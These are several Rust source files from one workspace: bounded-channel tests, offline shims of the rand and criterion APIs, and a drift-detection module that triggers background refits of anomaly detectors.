impl<T> Drop for Receiver<T> {
    fn drop(&mut self) {
        let mut state = self.shared.state.lock().unwrap();
        state.receivers -= 1;
        if state.receivers == 0 {
            drop(state);
            // Wake senders parked in send so they observe the
            // disconnect.
            self.shared.not_full.notify_all();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::thread;

    #[test]
    fn send_blocks_at_capacity_until_a_recv_frees_space() {
        let (tx, rx) = bounded::<usize>(2);
        tx.send(1).unwrap();
        tx.send(2).unwrap();
        let t = thread::spawn(move || {
            tx.send(3).unwrap(); // must block until the recv below
            tx
        });
        thread::sleep(Duration::from_millis(20));
        assert_eq!(rx.recv(), Ok(1));
        let _tx = t.join().unwrap();
        assert_eq!(rx.recv(), Ok(2));
        assert_eq!(rx.recv(), Ok(3));
    }

    #[test]
    fn every_message_is_delivered_exactly_once_under_mpmc() {
        const PRODUCERS: usize = 4;
        const PER_PRODUCER: usize = 250;
        let (tx, rx) = bounded::<usize>(8);
        let mut handles = Vec::new();
        for p in 0..PRODUCERS {
            let tx = tx.clone();
            handles.push(thread::spawn(move || {
                for i in 0..PER_PRODUCER {
                    tx.send(p * PER_PRODUCER + i).unwrap();
                }
            }));
        }
        drop(tx);
        let mut consumers = Vec::new();
        for _ in 0..3 {
            let rx = rx.clone();
            consumers.push(thread::spawn(move || {
                let mut got = Vec::new();
                while let Ok(v) = rx.recv() {
                    got.push(v);
                }
                got
            }));
        }
        drop(rx);
        for h in handles {
            h.join().unwrap();
        }
        let mut all: Vec<usize> = consumers
            .into_iter()
            .flat_map(|c| c.join().unwrap())
            .collect();
        all.sort_unstable();
        let want: Vec<usize> = (0..PRODUCERS * PER_PRODUCER).collect();
        assert_eq!(all, want);
    }

    #[test]
    fn recv_reports_disconnect_after_draining() {
        let (tx, rx) = bounded::<u8>(4);
        tx.send(7).unwrap();
        drop(tx);
        assert_eq!(rx.recv(), Ok(7));
        assert_eq!(rx.recv(), Err(RecvError));
    }

    #[test]
    fn recv_timeout_times_out_then_succeeds() {
        let (tx, rx) = bounded::<u8>(1);
        assert_eq!(
            rx.recv_timeout(Duration::from_millis(10)),
            Err(RecvTimeoutError::Timeout)
        );
        tx.send(9).unwrap();
        assert_eq!(rx.recv_timeout(Duration::from_millis(10)), Ok(9));
        drop(tx);
        assert_eq!(
            rx.recv_timeout(Duration::from_millis(10)),
            Err(RecvTimeoutError::Disconnected)
        );
    }

    #[test]
    fn send_to_dropped_receiver_returns_the_message() {
        let (tx, rx) = bounded::<String>(1);
        drop(rx);
        assert_eq!(tx.send("lost".into()), Err(SendError("lost".to_string())));
    }

    #[test]
    fn try_recv_while_drains_in_order_and_respects_the_predicate() {
        let (tx, rx) = bounded::<usize>(8);
        for i in 0..5 {
            tx.send(i).unwrap();
        }
        let mut out = Vec::new();
        // Budgeted drain: the predicate inspects each message before
        // taking it, so a cost budget stops exactly where it should.
        let mut budget = 3;
        assert_eq!(
            rx.try_recv_while(&mut out, |_| {
                if budget == 0 {
                    return false;
                }
                budget -= 1;
                true
            }),
            3
        );
        assert_eq!(out, [0, 1, 2]);
        assert_eq!(rx.try_recv_while(&mut out, |_| true), 2);
        assert_eq!(out, [0, 1, 2, 3, 4]);
        assert_eq!(rx.try_recv_while(&mut out, |_| true), 0);
        // A rejecting predicate leaves the queue untouched.
        tx.send(9).unwrap();
        assert_eq!(rx.try_recv_while(&mut out, |_| false), 0);
        assert_eq!(rx.try_recv(), Ok(9));
    }

    #[test]
    fn try_recv_while_frees_blocked_senders() {
        let (tx, rx) = bounded::<usize>(2);
        tx.send(0).unwrap();
        tx.send(1).unwrap();
        let t = thread::spawn(move || {
            tx.send(2).unwrap(); // blocks until the drain below
            tx.send(3).unwrap();
        });
        thread::sleep(Duration::from_millis(20));
        let mut out = Vec::new();
        assert!(rx.try_recv_while(&mut out, |_| true) >= 2);
        t.join().unwrap();
        let mut rest = Vec::new();
        while let Ok(v) = rx.try_recv() {
            rest.push(v);
        }
        out.extend(rest);
        assert_eq!(out, [0, 1, 2, 3]);
    }

    #[test]
    fn try_recv_distinguishes_empty_from_disconnected() {
        let (tx, rx) = bounded::<u8>(1);
        assert_eq!(rx.try_recv(), Err(TryRecvError::Empty));
        tx.send(1).unwrap();
        assert_eq!(rx.try_recv(), Ok(1));
        drop(tx);
        assert_eq!(rx.try_recv(), Err(TryRecvError::Disconnected));
    }
}
