//! Uniform range sampling (`gen_range` support types).

use crate::RngCore;
use std::ops::{Range, RangeInclusive};

/// Types with a uniform sampler over half-open and closed ranges.
pub trait SampleUniform: PartialOrd + Copy {
    /// Uniform draw from `[lo, hi)`.
    fn sample_half_open<R: RngCore + ?Sized>(lo: Self, hi: Self, rng: &mut R) -> Self;

    /// Uniform draw from `[lo, hi]`.
    fn sample_closed<R: RngCore + ?Sized>(lo: Self, hi: Self, rng: &mut R) -> Self;
}

macro_rules! impl_uniform_int {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_half_open<R: RngCore + ?Sized>(lo: Self, hi: Self, rng: &mut R) -> Self {
                let span = (hi as i128 - lo as i128) as u128;
                let v = rng.next_u64() as u128 % span;
                (lo as i128 + v as i128) as $t
            }

            fn sample_closed<R: RngCore + ?Sized>(lo: Self, hi: Self, rng: &mut R) -> Self {
                let span = (hi as i128 - lo as i128) as u128 + 1;
                let v = rng.next_u64() as u128 % span;
                (lo as i128 + v as i128) as $t
            }
        }
    )*};
}

impl_uniform_int!(i8, i16, i32, i64, isize, u8, u16, u32, u64, usize);

impl SampleUniform for f32 {
    fn sample_half_open<R: RngCore + ?Sized>(lo: Self, hi: Self, rng: &mut R) -> Self {
        let u = <Self as crate::Standard>::sample_from(rng);
        let v = lo + (hi - lo) * u;
        // Guard against rounding up to the excluded endpoint.
        if v >= hi {
            lo
        } else {
            v
        }
    }

    fn sample_closed<R: RngCore + ?Sized>(lo: Self, hi: Self, rng: &mut R) -> Self {
        let u = <f32 as crate::Standard>::sample_from(rng);
        (lo + (hi - lo) * u).clamp(lo, hi)
    }
}

impl SampleUniform for f64 {
    fn sample_half_open<R: RngCore + ?Sized>(lo: Self, hi: Self, rng: &mut R) -> Self {
        let u = <Self as crate::Standard>::sample_from(rng);
        let v = lo + (hi - lo) * u;
        if v >= hi {
            lo
        } else {
            v
        }
    }

    fn sample_closed<R: RngCore + ?Sized>(lo: Self, hi: Self, rng: &mut R) -> Self {
        let u = <f64 as crate::Standard>::sample_from(rng);
        (lo + (hi - lo) * u).clamp(lo, hi)
    }
}

/// Range forms accepted by `gen_range`.
pub trait SampleRange<T> {
    /// Draws one value from the range.
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

impl<T: SampleUniform> SampleRange<T> for Range<T> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        assert!(self.start < self.end, "cannot sample empty range");
        T::sample_half_open(self.start, self.end, rng)
    }
}

impl<T: SampleUniform> SampleRange<T> for RangeInclusive<T> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        let (lo, hi) = self.into_inner();
        assert!(lo <= hi, "cannot sample empty range");
        T::sample_closed(lo, hi, rng)
    }
}
