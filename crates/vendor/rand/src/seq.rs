//! Slice sampling helpers (`choose`, `shuffle`).

use crate::Rng;

/// Random element choice and in-place shuffling for slices.
pub trait SliceRandom {
    /// Element type.
    type Item;

    /// A uniformly random element, or `None` on an empty slice.
    fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&Self::Item>;

    /// Uniform Fisher–Yates shuffle in place.
    fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R);
}

impl<T> SliceRandom for [T] {
    type Item = T;

    fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&T> {
        if self.is_empty() {
            None
        } else {
            self.get(rng.gen_range(0..self.len()))
        }
    }

    fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R) {
        for i in (1..self.len()).rev() {
            let j = rng.gen_range(0..=i);
            self.swap(i, j);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rngs::StdRng;
    use crate::SeedableRng;

    #[test]
    fn choose_is_uniformish() {
        let mut rng = StdRng::seed_from_u64(1);
        let xs = [0usize, 1, 2, 3];
        let mut counts = [0usize; 4];
        for _ in 0..4_000 {
            counts[*xs.choose(&mut rng).unwrap()] += 1;
        }
        assert!(counts.iter().all(|&c| c > 800), "{counts:?}");
    }

    #[test]
    fn shuffle_permutes() {
        let mut rng = StdRng::seed_from_u64(2);
        let mut xs: Vec<usize> = (0..50).collect();
        xs.shuffle(&mut rng);
        let mut sorted = xs.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
        assert_ne!(xs, sorted, "shuffle left the slice sorted");
    }

    #[test]
    fn empty_choose_none() {
        let mut rng = StdRng::seed_from_u64(3);
        let xs: [u8; 0] = [];
        assert!(xs.choose(&mut rng).is_none());
    }
}
