//! Offline shim implementing the subset of the `rand` 0.8 API this
//! workspace uses: [`Rng`] (`gen`, `gen_range`, `gen_bool`),
//! [`SeedableRng::seed_from_u64`], [`rngs::StdRng`],
//! [`rngs::mock::StepRng`], and [`seq::SliceRandom`]
//! (`choose`/`shuffle`).
//!
//! The container that builds this repository has no crates.io access,
//! so the real crate cannot be fetched; this shim keeps the same
//! interfaces and statistical quality (xoshiro256++ behind `StdRng`)
//! without promising value-for-value compatibility with upstream
//! `rand` streams.

pub mod rngs;
pub mod seq;
mod uniform;

pub use uniform::{SampleRange, SampleUniform};

/// Core entropy source: everything derives from `next_u64`.
pub trait RngCore {
    /// The next 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// The next 32 random bits (high half of [`RngCore::next_u64`]).
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }

    fn next_u32(&mut self) -> u32 {
        (**self).next_u32()
    }
}

/// Sampling helpers layered on any [`RngCore`].
pub trait Rng: RngCore {
    /// A uniformly random value of `T` (floats in `[0, 1)`).
    fn gen<T: Standard>(&mut self) -> T {
        T::sample_from(self)
    }

    /// A uniform sample from `range` (`lo..hi` or `lo..=hi`).
    ///
    /// # Panics
    ///
    /// Panics if the range is empty.
    fn gen_range<T, B>(&mut self, range: B) -> T
    where
        T: SampleUniform,
        B: SampleRange<T>,
    {
        range.sample_single(self)
    }

    /// `true` with probability `p`.
    ///
    /// # Panics
    ///
    /// Panics if `p` is not a probability.
    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "p = {p} is not a probability");
        f64::sample_from(self) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Types samplable "from the standard distribution" (uniform bits;
/// floats uniform in `[0, 1)`).
pub trait Standard: Sized {
    /// Draws one value.
    fn sample_from<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

impl Standard for u64 {
    fn sample_from<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64()
    }
}

impl Standard for u32 {
    fn sample_from<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32()
    }
}

impl Standard for usize {
    fn sample_from<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() as usize
    }
}

impl Standard for bool {
    fn sample_from<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f32 {
    fn sample_from<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 24 high bits → uniform in [0, 1) with full mantissa coverage.
        (rng.next_u32() >> 8) as f32 * (1.0 / (1u32 << 24) as f32)
    }
}

impl Standard for f64 {
    fn sample_from<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 high bits → uniform in [0, 1).
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

/// Construction from a seed; only the `seed_from_u64` entry point is
/// used in this workspace.
pub trait SeedableRng: Sized {
    /// Builds a generator whose stream is fully determined by `seed`.
    fn seed_from_u64(seed: u64) -> Self;
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rngs::StdRng;

    #[test]
    fn determinism() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn different_seeds_differ() {
        let mut a = StdRng::seed_from_u64(1);
        let mut b = StdRng::seed_from_u64(2);
        let same = (0..64).filter(|_| a.next_u64() == b.next_u64()).count();
        assert!(same < 2);
    }

    #[test]
    fn floats_are_half_open_unit() {
        let mut rng = StdRng::seed_from_u64(3);
        for _ in 0..10_000 {
            let x: f64 = rng.gen();
            assert!((0.0..1.0).contains(&x));
            let y: f32 = rng.gen();
            assert!((0.0..1.0).contains(&y));
        }
    }

    #[test]
    fn gen_bool_tracks_p() {
        let mut rng = StdRng::seed_from_u64(4);
        let hits = (0..20_000).filter(|_| rng.gen_bool(0.25)).count();
        let rate = hits as f64 / 20_000.0;
        assert!((0.23..0.27).contains(&rate), "rate {rate}");
    }

    #[test]
    fn gen_range_covers_and_bounds() {
        let mut rng = StdRng::seed_from_u64(5);
        let mut seen = [false; 10];
        for _ in 0..1_000 {
            let v: usize = rng.gen_range(0..10);
            seen[v] = true;
        }
        assert!(seen.iter().all(|&s| s));
        for _ in 0..1_000 {
            let v: i32 = rng.gen_range(-5..=5);
            assert!((-5..=5).contains(&v));
            let f: f32 = rng.gen_range(-2.0..2.0);
            assert!((-2.0..2.0).contains(&f));
        }
    }

    #[test]
    fn works_through_unsized_generic() {
        fn draw<R: Rng + ?Sized>(rng: &mut R) -> f64 {
            rng.gen()
        }
        let mut rng = StdRng::seed_from_u64(6);
        let x = draw(&mut rng);
        assert!((0.0..1.0).contains(&x));
    }
}
