//! Offline shim for the `criterion` API surface the bench targets use:
//! [`Criterion::benchmark_group`], `bench_function`, `sample_size`,
//! `throughput`, `finish`, [`black_box`], and the `criterion_group!` /
//! `criterion_main!` macros.
//!
//! Measurement is honest but simple: per benchmark it calibrates an
//! iteration count to a target batch duration, takes `sample_size`
//! timed batches, and reports mean ± standard deviation per iteration
//! (plus throughput when configured). There is no HTML report, outlier
//! analysis, or state persistence.

use std::time::{Duration, Instant};

/// Opaque value sink preventing the optimizer from deleting the
/// benchmarked computation.
pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// Throughput annotation for a benchmark group.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    /// Elements processed per iteration.
    Elements(u64),
    /// Bytes processed per iteration.
    Bytes(u64),
}

/// Top-level benchmark context.
#[derive(Debug, Default)]
pub struct Criterion {}

impl Criterion {
    /// Starts a named group of benchmarks.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        let name = name.into();
        println!("\ngroup: {name}");
        BenchmarkGroup {
            _criterion: self,
            name,
            sample_size: 20,
            throughput: None,
        }
    }

    /// Benchmarks a function outside any group.
    pub fn bench_function<F>(&mut self, id: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        run_benchmark(id, 20, None, f);
        self
    }
}

/// A named group sharing sample-size and throughput settings.
pub struct BenchmarkGroup<'c> {
    _criterion: &'c mut Criterion,
    name: String,
    sample_size: usize,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of timed batches per benchmark.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(2);
        self
    }

    /// Declares per-iteration throughput for rate reporting.
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    /// Runs one benchmark in the group.
    pub fn bench_function<F>(&mut self, id: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let label = format!("{}/{}", self.name, id);
        run_benchmark(&label, self.sample_size, self.throughput, f);
        self
    }

    /// Ends the group (parity with criterion; reporting is immediate).
    pub fn finish(self) {}
}

/// Passed to the benchmark closure; call [`Bencher::iter`] with the
/// routine under test.
pub struct Bencher {
    iters_per_batch: u64,
    samples: usize,
    /// Mean/σ per iteration in nanoseconds, filled by `iter`.
    result: Option<(f64, f64)>,
}

impl Bencher {
    /// Measures `f`, storing per-iteration timing statistics.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut f: F) {
        // Calibrate: grow the batch until it takes long enough to time.
        let target = Duration::from_millis(25);
        let mut iters = 1u64;
        loop {
            let t0 = Instant::now();
            for _ in 0..iters {
                black_box(f());
            }
            let dt = t0.elapsed();
            if dt >= target || iters >= (1 << 20) {
                if dt < target && dt < Duration::from_micros(10) {
                    iters *= 16;
                    continue;
                }
                if dt < target {
                    let scale = (target.as_nanos() as f64 / dt.as_nanos().max(1) as f64).ceil();
                    iters = (iters as f64 * scale).min(1e9) as u64;
                }
                break;
            }
            iters *= 4;
        }
        self.iters_per_batch = iters.max(1);

        let mut per_iter: Vec<f64> = Vec::with_capacity(self.samples);
        for _ in 0..self.samples {
            let t0 = Instant::now();
            for _ in 0..self.iters_per_batch {
                black_box(f());
            }
            per_iter.push(t0.elapsed().as_nanos() as f64 / self.iters_per_batch as f64);
        }
        let mean = per_iter.iter().sum::<f64>() / per_iter.len() as f64;
        let var = per_iter
            .iter()
            .map(|x| (x - mean) * (x - mean))
            .sum::<f64>()
            / per_iter.len() as f64;
        self.result = Some((mean, var.sqrt()));
    }
}

fn run_benchmark<F: FnMut(&mut Bencher)>(
    label: &str,
    samples: usize,
    throughput: Option<Throughput>,
    mut f: F,
) {
    let mut b = Bencher {
        iters_per_batch: 1,
        samples,
        result: None,
    };
    f(&mut b);
    match b.result {
        Some((mean, sd)) => {
            let rate = match throughput {
                Some(Throughput::Elements(n)) => {
                    format!("  ({:.0} elem/s)", n as f64 * 1e9 / mean)
                }
                Some(Throughput::Bytes(n)) => {
                    format!("  ({:.1} MiB/s)", n as f64 * 1e9 / mean / (1 << 20) as f64)
                }
                None => String::new(),
            };
            println!("  {label:<44} {} ± {}{rate}", fmt_ns(mean), fmt_ns(sd));
        }
        None => println!("  {label:<44} (no measurement: Bencher::iter never called)"),
    }
}

fn fmt_ns(ns: f64) -> String {
    if ns >= 1e9 {
        format!("{:.3} s", ns / 1e9)
    } else if ns >= 1e6 {
        format!("{:.3} ms", ns / 1e6)
    } else if ns >= 1e3 {
        format!("{:.3} µs", ns / 1e3)
    } else {
        format!("{ns:.0} ns")
    }
}

/// Bundles benchmark functions into one runner, as in criterion.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Emits `main` running the given groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_measures_something() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("shim");
        group.sample_size(3);
        group.bench_function("sum", |b| {
            b.iter(|| (0..1000u64).sum::<u64>());
        });
        group.finish();
    }
}
