//! The online detector lifecycle: drift-triggered background refits.
//!
//! The serving layer absorbs supervision into neighbour indexes
//! incrementally (`Detector::append`), but the unsupervised methods
//! (PCA, isolation forest, one-class SVM) keep the fitted state of
//! their original training set forever — their behavioural baseline
//! goes stale as the append stream accumulates. This module holds the
//! pieces that keep them fresh without stopping the service:
//!
//! * [`RefitSource`] — the baseline training set a refit starts from;
//!   every refit fits on `baseline ∪ appended-so-far`, which is
//!   exactly what a stop-the-world refit would fit on (the parity
//!   anchor of `tests/lifecycle.rs`).
//! * [`DriftConfig`] / [`DriftDetector`] — a deterministic
//!   population-stability statistic over the per-line mean verdict
//!   stream. The first `window` scores freeze a reference histogram;
//!   the most recent `window` scores form the comparison window; the
//!   PSI-style statistic is 0 exactly when the two windows have
//!   identical bin occupancy and grows without bound as they separate.
//!   No RNG anywhere: the same score sequence produces bit-identical
//!   statistics and firing decisions (`tests/drift.rs` proptests).
//! * [`LifecycleState`] — the shared bookkeeping a front-end
//!   ([`crate::ScoringService`], [`crate::ShardRouter`]) threads its
//!   scoring/append paths through: the append log, the drift tracker,
//!   and the refit trigger flags the background worker polls.
//!
//! The refit itself lives on the front-ends (they own the engine
//! locks); this module only decides *when* and supplies *what to fit
//! on*.

use crate::service::ServeError;
use std::collections::VecDeque;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Mutex;

/// The baseline training set background refits start from: the lines
/// and supervision labels the resident engine was originally fitted
/// on. Each refit fits `baseline ∪ append-log-prefix`, so a refit
/// under load converges to the same state a stop-the-world refit over
/// the same history produces.
#[derive(Debug, Clone)]
pub struct RefitSource {
    lines: Vec<String>,
    labels: Vec<bool>,
}

impl RefitSource {
    /// A baseline of `lines` with one supervision label per line.
    pub fn new(lines: Vec<String>, labels: Vec<bool>) -> Result<Self, ServeError> {
        if lines.len() != labels.len() {
            return Err(ServeError::InvalidConfig(format!(
                "refit source needs one label per line: {} lines, {} labels",
                lines.len(),
                labels.len()
            )));
        }
        if lines.is_empty() {
            return Err(ServeError::InvalidConfig(
                "refit source must hold at least one baseline line (detectors cannot fit on an \
                 empty set)"
                    .into(),
            ));
        }
        Ok(RefitSource { lines, labels })
    }

    /// Baseline lines.
    pub fn lines(&self) -> &[String] {
        &self.lines
    }

    /// Baseline labels, aligned with [`RefitSource::lines`].
    pub fn labels(&self) -> &[bool] {
        &self.labels
    }
}

/// When the lifecycle fires a refit.
#[derive(Debug, Clone, Copy)]
pub struct DriftConfig {
    /// Scores per comparison side: the first `window` observed scores
    /// freeze the reference distribution, the most recent `window`
    /// form the current one.
    pub window: usize,
    /// Histogram bins the stability statistic compares occupancy over
    /// (reference-quantile edges).
    pub bins: usize,
    /// Fire a refit when the stability statistic exceeds this. The
    /// statistic is 0 for identical windows and roughly
    /// `2·ln(window)`-scale under complete separation; the PSI
    /// folklore thresholds (0.1 = drifting, 0.25 = shifted) are a
    /// reasonable starting range.
    pub threshold: f32,
    /// Also fire once this many lines have been appended since the
    /// last refit (0 disables the count trigger) — the backstop for
    /// baselines that grow a lot without shifting the score
    /// distribution.
    pub append_threshold: usize,
}

impl Default for DriftConfig {
    fn default() -> Self {
        DriftConfig {
            window: 256,
            bins: 8,
            threshold: 0.25,
            append_threshold: 512,
        }
    }
}

impl DriftConfig {
    /// Rejects shapes that cannot track drift: fewer than 2 bins (one
    /// bin always has identical occupancy), a window smaller than the
    /// bin count (quantile edges would collapse), or a non-positive
    /// threshold (the statistic is 0 on identical windows, so the
    /// trigger would fire on no drift at all).
    pub fn validate(&self) -> Result<(), ServeError> {
        if self.bins < 2 {
            return Err(ServeError::InvalidConfig(
                "drift bins must be >= 2 (one bin cannot separate distributions)".into(),
            ));
        }
        if self.window < self.bins {
            return Err(ServeError::InvalidConfig(format!(
                "drift window ({}) must be >= bins ({}) so quantile edges are distinct",
                self.window, self.bins
            )));
        }
        if self.threshold.is_nan() || self.threshold <= 0.0 {
            return Err(ServeError::InvalidConfig(
                "drift threshold must be > 0 (the statistic is 0 on identical windows)".into(),
            ));
        }
        Ok(())
    }
}

/// Proportion floor for empty histogram bins: keeps the PSI log term
/// finite while making "all mass moved into bins the reference never
/// occupied" score ~ln(1/EPS) per unit of moved mass — far above any
/// sane threshold, which is what makes the "always fires past the
/// threshold on complete separation" proptest a theorem rather than a
/// tuning accident.
const PSI_EPS: f64 = 1e-6;

/// A deterministic score-distribution-shift tracker (population
/// stability index over reference-quantile bins).
///
/// Feed it the per-line mean verdict of every scored micro-batch
/// ([`DriftDetector::observe`]); once both windows are full,
/// [`DriftDetector::statistic`] is the PSI between the frozen
/// reference window and the rolling current window, and
/// [`DriftDetector::fired`] compares it to the configured threshold.
/// Everything is a pure function of the observed sequence — no RNG,
/// no clock — so two trackers fed the same scores agree bit-for-bit.
#[derive(Debug, Clone)]
pub struct DriftDetector {
    config: DriftConfig,
    /// The frozen reference window (first `window` scores observed
    /// since construction or the last [`DriftDetector::reset`]).
    reference: Vec<f32>,
    /// Upper bin edges over the reference (length `bins - 1`),
    /// computed once when the reference freezes.
    edges: Vec<f32>,
    /// Reference bin occupancy, counted once at freeze.
    ref_counts: Vec<usize>,
    /// The rolling current window (most recent `window` scores after
    /// the reference froze).
    current: VecDeque<f32>,
    /// Current-window bin occupancy, maintained incrementally.
    cur_counts: Vec<usize>,
}

impl DriftDetector {
    /// A tracker with no observations yet.
    pub fn new(config: DriftConfig) -> Result<Self, ServeError> {
        config.validate()?;
        Ok(DriftDetector {
            config,
            reference: Vec::with_capacity(config.window),
            edges: Vec::new(),
            ref_counts: vec![0; config.bins],
            current: VecDeque::with_capacity(config.window),
            cur_counts: vec![0; config.bins],
        })
    }

    /// The configuration this tracker runs under.
    pub fn config(&self) -> &DriftConfig {
        &self.config
    }

    /// The bin a score falls into: the first edge it does not exceed,
    /// else the last bin. Total order on f32 bit patterns is not
    /// needed — NaN scores land in the last bin deterministically.
    fn bin(&self, score: f32) -> usize {
        self.edges
            .iter()
            .position(|&e| score <= e)
            .unwrap_or(self.config.bins - 1)
    }

    /// Records one per-line verdict score.
    pub fn observe(&mut self, score: f32) {
        if self.reference.len() < self.config.window {
            self.reference.push(score);
            if self.reference.len() == self.config.window {
                self.freeze_reference();
            }
            return;
        }
        if self.current.len() == self.config.window {
            let old = self.current.pop_front().expect("window non-empty");
            let b = self.bin(old);
            self.cur_counts[b] -= 1;
        }
        let b = self.bin(score);
        self.cur_counts[b] += 1;
        self.current.push_back(score);
    }

    /// Records a batch of per-line verdict scores, in order —
    /// equivalent to observing each one (`tests/drift.rs` pins that).
    pub fn observe_batch(&mut self, scores: &[f32]) {
        for &s in scores {
            self.observe(s);
        }
    }

    /// Quantile edges + occupancy over the just-completed reference.
    fn freeze_reference(&mut self) {
        let mut sorted = self.reference.clone();
        sorted.sort_by(f32::total_cmp);
        let n = sorted.len();
        let bins = self.config.bins;
        self.edges = (1..bins)
            .map(|j| sorted[(j * n / bins).min(n - 1)])
            .collect();
        self.ref_counts = vec![0; bins];
        let reference = std::mem::take(&mut self.reference);
        for &s in &reference {
            let b = self.bin(s);
            self.ref_counts[b] += 1;
        }
        self.reference = reference;
    }

    /// Scores observed so far (reference + current).
    pub fn observations(&self) -> usize {
        self.reference.len() + self.current.len()
    }

    /// The population stability index between the frozen reference and
    /// the rolling current window; `None` until both windows are full.
    /// Identical bin occupancy gives exactly 0.0.
    pub fn statistic(&self) -> Option<f32> {
        if self.reference.len() < self.config.window || self.current.len() < self.config.window {
            return None;
        }
        let n = self.config.window as f64;
        let mut psi = 0.0f64;
        for (&r, &c) in self.ref_counts.iter().zip(&self.cur_counts) {
            if r == c {
                // Equal occupancy contributes exactly zero — this
                // early-out is what makes "identical distribution →
                // statistic == 0.0" bit-exact rather than a rounding
                // accident.
                continue;
            }
            let p = r as f64 / n;
            let q = c as f64 / n;
            psi += (q - p) * ((q + PSI_EPS) / (p + PSI_EPS)).ln();
        }
        Some(psi as f32)
    }

    /// Whether the statistic exceeds the configured threshold.
    pub fn fired(&self) -> bool {
        self.statistic().is_some_and(|s| s > self.config.threshold)
    }

    /// Forgets everything: the next `window` scores freeze a new
    /// reference. Called after a refit swap — the post-refit verdict
    /// distribution is the new baseline.
    pub fn reset(&mut self) {
        self.reference.clear();
        self.edges.clear();
        self.ref_counts = vec![0; self.config.bins];
        self.current.clear();
        self.cur_counts = vec![0; self.config.bins];
    }
}

/// How a front-end runs its lifecycle.
#[derive(Debug, Clone)]
pub struct LifecycleConfig {
    /// The baseline training set refits start from.
    pub source: RefitSource,
    /// Trigger thresholds.
    pub drift: DriftConfig,
    /// `true` spawns a background worker that runs a refit whenever a
    /// trigger fires; `false` only marks the trigger pending — the
    /// caller drives refits explicitly (the deterministic harness
    /// mode, and the mode for operators who want refits on their own
    /// schedule via `refit()`).
    pub background: bool,
}

impl LifecycleConfig {
    /// A background lifecycle over `source` with default triggers.
    pub fn new(source: RefitSource) -> Self {
        LifecycleConfig {
            source,
            drift: DriftConfig::default(),
            background: true,
        }
    }

    /// Replaces the trigger thresholds.
    pub fn with_drift(mut self, drift: DriftConfig) -> Self {
        self.drift = drift;
        self
    }

    /// Manual-trigger mode: drift/append triggers mark a refit pending
    /// but only an explicit `refit()` call runs one.
    pub fn manual(mut self) -> Self {
        self.background = false;
        self
    }
}

/// Counters and trigger state of a running lifecycle, for tests,
/// benches, and monitoring.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct LifecycleStats {
    /// Refits completed (epoch swaps installed).
    pub refits: usize,
    /// Lines recorded in the append log since spawn.
    pub appends_logged: usize,
    /// Lines appended since the last refit consumed the log prefix.
    pub appends_since_refit: usize,
    /// The current drift statistic (`None` until both windows fill).
    pub drift_statistic: Option<f32>,
    /// Whether a trigger has fired and a refit is pending.
    pub refit_pending: bool,
}

/// The shared lifecycle bookkeeping a front-end threads its paths
/// through: scoring observes verdicts into the drift tracker, appends
/// record into the log, and the refit procedure (on the front-end,
/// which owns the engine locks) takes its training set and completion
/// callbacks from here.
pub(crate) struct LifecycleState {
    source: RefitSource,
    background: bool,
    /// Every appended (line, label) since spawn, in arrival order. A
    /// refit consumes a prefix; later appends stay for the next one.
    log: Mutex<Vec<(String, bool)>>,
    drift: Mutex<DriftDetector>,
    /// Set by a trigger, cleared by the refit that answers it.
    pending: AtomicBool,
    /// Log length the last refit's training set covered.
    consumed: AtomicUsize,
    refits: AtomicUsize,
    /// Serializes refits (two concurrent refits would race their
    /// install order and double-bump epochs for one logical refit).
    pub(crate) refit_lock: Mutex<()>,
}

